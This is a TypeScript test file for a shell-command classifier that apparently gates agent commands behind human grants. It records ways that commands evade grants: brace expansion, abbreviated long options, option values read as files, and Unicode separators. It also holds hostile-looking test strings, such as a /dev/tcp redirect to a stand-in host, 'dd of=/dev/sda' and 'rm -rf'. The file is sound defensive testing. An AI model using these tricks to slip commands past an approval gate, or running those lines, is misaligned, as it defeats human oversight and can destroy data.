// More ways around a grant from the differential write fuzzer (test/fuzz/classify-write.fuzz.ts,
// seeds 77 and 11 onwards): the arguments a program really gets differ from the words the
// classifier read, so what it writes or where it connects is not named. bash expands braces
// before the program runs (`ln {,--backup,} a b` is `ln --backup a b`); GNU programs take any
// unambiguous prefix of a long option (`gzip --suf .x f`); and an option's value is not a file
// (`split --line-bytes 10 IN PREFIX`, `zip -n SUFFIXES ARCHIVE`). Each row is first shown doing
// it for real with bash (the control), then classified as what it is; each failed on the code
// before its fix.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { classifyShell } from '../../main/core/classify/shell';
import type { Grant } from '../../main/contract/approver';
import { partCovered } from '../../main/core/grants';
import type { CoreRequest } from '../../main/core/request';

const c = (cmd: string) => classifyShell(cmd, '/repo');
const res = (cmd: string) => c(cmd).resources.slice().sort();

/** Runs `script` with the real bash in a fresh directory holding a.txt, b, bk/ and h → bk; returns the paths that exist afterwards among `look`. */
function bashLeaves(script: string, look: string[]): string[] {
  const dir = mkdtempSync(path.join(tmpdir(), 'airlock-fw2-'));
  try {
    writeFileSync(path.join(dir, 'a.txt'), 'a\nb\nc\n');
    writeFileSync(path.join(dir, 'b'), 'b\n');
    mkdirSync(path.join(dir, 'bk'));
    symlinkSync('bk', path.join(dir, 'h'));
    try {
      execFileSync('bash', ['-c', script], { cwd: dir, env: { PATH: process.env.PATH }, stdio: 'ignore', timeout: 10_000 });
    } catch {
      /* the effect is what counts */
    }
    return look.filter((f) => existsSync(path.join(dir, f)));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const grant = (resource: string, action: Grant['action'] = 'write'): Grant => ({ id: 'g', task: 't', source: '*', tool: '*', action, resource, key: null, effect: 'allow', expiresAt: null, usesLeft: null, forwarded: false, remote: null, note: null, createdAt: 0, createdBy: 'human', revokedAt: null, lastUsedAt: null, when: null });
/** Whether `g` covers every non-read part of `line` (cwd /repo), as the core decides a shell command. */
function covers(line: string, g: Grant): boolean {
  const cl = classifyShell(line, '/repo');
  const req = { source: 'exec', tool: 'exec', action: cl.action, resource: null, resources: cl.resources, summary: line, argsText: null, args: { command: line }, task: 't', cwd: '/repo', parts: cl.parts, classifierRisk: [] } as unknown as CoreRequest;
  return cl.parts.filter((p) => p.action !== 'read').every((p) => partCovered(g, req, p, 1, '/repo'));
}

test('bash expands braces before the program runs: ln {,--backup,} a b makes a backup, git ls-remote {,URL,} connects to URL, > {h/n,} writes through h', () => {
  assert.deepEqual(bashLeaves('ln {,--backup,} a.txt b', ['b~']), ['b~'], 'control: ln did not see --backup');
  assert.deepEqual(bashLeaves('echo x > {h/n,}', ['bk/n']), ['bk/n'], 'control: the redirection did not go through h');
  assert.deepEqual(res('ln {,--backup,} a.txt b'), ['/repo/a.txt', '/repo/b', '/repo/b.~*~', '/repo/b/*~', '/repo/b~']);
  for (const line of ['git ls-remote {,http://h.test/r,}', 'git fetch {,http://h.test/r,}', 'wget -q {http://h.test/,}']) {
    const cl = c(line);
    assert.equal(cl.action, 'transfer', line);
    assert.ok(cl.resources.includes('h.test'), `${line}: ${JSON.stringify(cl.resources)}`);
  }
  // The host is named, so a grant for another host does not cover it.
  assert.equal(covers('git ls-remote {,http://h.test/r,}', grant('other.test', 'transfer')), false);
  assert.deepEqual(res('echo x > {lnk/n,}'), ['/repo/lnk/n']);
  assert.deepEqual(c('echo x > {,/dev/tcp/h.test/9,}').parts.find((p) => p.action === 'transfer')?.resources, ['h.test']);
  // Words as bash makes them: quoted text and escapes take no part, an unquoted empty word is dropped.
  assert.deepEqual(res('mkdir -p src/{a,b}/{c,d}'), ['/repo/src/a/c', '/repo/src/a/d', '/repo/src/b/c', '/repo/src/b/d']);
  assert.deepEqual(res("touch {'a,b',c}"), ['/repo/a,b', '/repo/c']);
  assert.deepEqual(res('touch "{a,b}" \\{c,d}'), ['/repo/{a,b}', '/repo/{c,d}']);
  assert.deepEqual(res('cat ~/{a,b}'), ['~/a', '~/b']);
  // An expansion left in a word keeps it computed at run time; a name made by braces is execute.
  assert.deepEqual(res('touch {$x,y}'), ['$x', '/repo/y']);
  assert.equal(c('{rm,-rf,x}').action, 'execute');
  // Too many words to follow: the word as written, which may be options (an unknown option asks).
  assert.equal(c('touch x{1..5000}').action, 'write');
  assert.equal(c('sort x{1..5000} f').action, 'execute');
});

test('a long option may be abbreviated (GNU getopt): gzip --suf .x f writes f.x, cp --b makes a backup, cp -r --no-t t . spills t', () => {
  assert.deepEqual(bashLeaves('gzip --suffix .x a.txt', ['a.txt.x', '.x']), ['a.txt.x'], 'control: gzip --suffix');
  assert.deepEqual(bashLeaves('gzip --suf .x a.txt', ['a.txt.x']), ['a.txt.x'], 'control: gzip --suf');
  assert.deepEqual(bashLeaves('cp --b a.txt b', ['b~']), ['b~'], 'control: cp --b');
  assert.deepEqual(res('gzip --suffix .x a.txt'), ['/repo/a.txt', '/repo/a.txt.x']);
  assert.deepEqual(res('gzip --suf .x a.txt'), ['/repo/a.txt', '/repo/a.txt.x']);
  assert.deepEqual(res('gunzip --suffix .x a.txt.x'), ['/repo/a.txt', '/repo/a.txt.x']);
  assert.ok(res('cp --b a.txt b').includes('/repo/b~'));
  assert.ok(res('mv --su=.o a.txt b').includes('/repo/b.o'));
  assert.deepEqual(res('cp --ta=d a.txt'), ['/repo/a.txt', '/repo/d']);
  assert.ok(c('cp -r --no-t t .').parts[0]!.unlisted, 'cp -r --no-t t . copies t/.git/hooks into ./.git/hooks');
  assert.ok(c('cp --rec t/. .').parts[0]!.unlisted);
  assert.ok(c('chmod --rec -w .').parts[0]!.unlisted);
});

test('split and zip: an option value is not the input, prefix or archive (split --line-bytes 10 IN PREFIX writes PREFIXaa; zip -n SUF ARCHIVE f writes ARCHIVE.zip)', () => {
  assert.deepEqual(bashLeaves('split --line-bytes 2 a.txt bk/p', ['bk/paa', '2aa']), ['bk/paa'], 'control: split --line-bytes');
  assert.deepEqual(bashLeaves('split -l 1 - bk/q < a.txt', ['bk/qaa', 'xaa']), ['bk/qaa'], 'control: split - PREFIX');
  for (const [line, out] of [['split --line-bytes 10 a.txt bk/p', '/repo/bk/p*'], ['split -C 10 a.txt bk/p', '/repo/bk/p*'], ['split --lines=1 a.txt bk/p', '/repo/bk/p*'], ['split - bk/q', '/repo/bk/q*'], ['split -t , a.txt', '/repo/x*']] as const) {
    assert.ok(res(line).includes(out), `${line}: ${JSON.stringify(res(line))}`);
  }
  if (existsSync('/usr/bin/zip')) assert.deepEqual(bashLeaves('zip -q -n .txt bk/z a.txt', ['bk/z.zip', '.txt.zip']), ['bk/z.zip'], 'control: zip -n');
  assert.ok(res('zip -n .txt bk/z a.txt').includes('/repo/bk/z.zip'));
  assert.ok(res("zip -J $'\\x2dn' x ../outside/n a.txt").includes('/outside/n.zip'));
  assert.deepEqual(res('zip out.zip a.txt'), ['/repo/a.txt', '/repo/out.zip']);
});

test('a character outside ASCII does not shift the text of what follows: `: ａ; ./make` is ./make (not make, which a {make,make *} grant covers), `2>　"$x"` is a path computed at run time (seed 12)', () => {
  assert.deepEqual(bashLeaves("printf '#!/bin/sh\\n: > ran\\n' > make; chmod +x make; : ａ; ./make", ['ran']), ['ran'], 'control: ./make ran');
  for (const sep of ['ａ', '\u2028', 'é', '😀']) {
    const line = `: ${sep}; ./make`;
    const parts = c(line).parts;
    assert.equal(parts[parts.length - 1]?.command, './make', line);
    assert.equal(covers(line, grant('{make,make *}', 'execute')), false, `${line} under {make,make *}`);
  }
  assert.equal(covers('make', grant('{make,make *}', 'execute')), true);
  const r = c('true 2>　"$x"');
  assert.ok(r.parts.some((p) => p.resources.includes('　$x')), JSON.stringify(r.parts));
  assert.deepEqual(c('echo ａ; cat $x').parts.map((p) => p.command), ['echo ａ', 'cat $x']);
});

test('dd uses the last of= it is given and install --suffix makes a backup: each of= and the backup are named (seed 12)', () => {
  assert.deepEqual(bashLeaves('dd if=a.txt of=bk/x of=bk/y status=none', ['bk/x', 'bk/y']), ['bk/y'], 'control: dd wrote the last of=');
  assert.deepEqual(bashLeaves('install --suffix .old a.txt b', ['b.old']), ['b.old'], 'control: install --suffix');
  assert.deepEqual(res('dd if=a.txt of={a,b}.new'), ['/repo/a.new', '/repo/a.txt', '/repo/b.new']);
  assert.equal(c('dd if=a.txt of=out of=/dev/sda').action, 'delete');
  assert.ok(res('install --suffix .old a.txt b').includes('/repo/b.old'));
  assert.ok(!res('install --suffix .old a.txt b').includes('/repo/.old'));
});

test('seed 13: `--` as an option value does not end the search for a command-running option; `-` is a file to tee, mkdir and rm; chmod -o is a mode; a backup suffix with / falls back to ~', () => {
  if (existsSync('/usr/bin/wget')) assert.deepEqual(bashLeaves("printf '#!/bin/sh\\n: > ran\\n' > x; chmod +x x; wget -q --hsts-file -- --use-askpass ./x http://127.0.0.1:9/", ['ran']), ['ran'], 'control: wget ran ./x');
  assert.equal(c('wget --hsts-file -- --use-askpass ./x http://h.test/').action, 'execute');
  assert.deepEqual(bashLeaves('echo x | tee -p - bk/t >/dev/null; mkdir -- -d', ['-', '-d']), ['-', '-d'], 'control: tee and mkdir wrote -');
  assert.ok(res('tee -p - a.txt').includes('/repo/-'));
  assert.ok(res('mkdir -- - x').includes('/repo/-'));
  assert.ok(res('rm -- -').includes('/repo/-'));
  assert.deepEqual(bashLeaves('touch 0; chmod 0 -o bk', ['0']), ['0']);
  assert.deepEqual(res('chmod 0 -o bk'), ['/repo/0', '/repo/bk']);
  assert.deepEqual(bashLeaves('ln --suffix=../x a.txt b', ['b~']), ['b~'], 'control: ln fell back to ~');
  assert.ok(res('ln --suffix=../x a.txt b').includes('/repo/b~'));
});
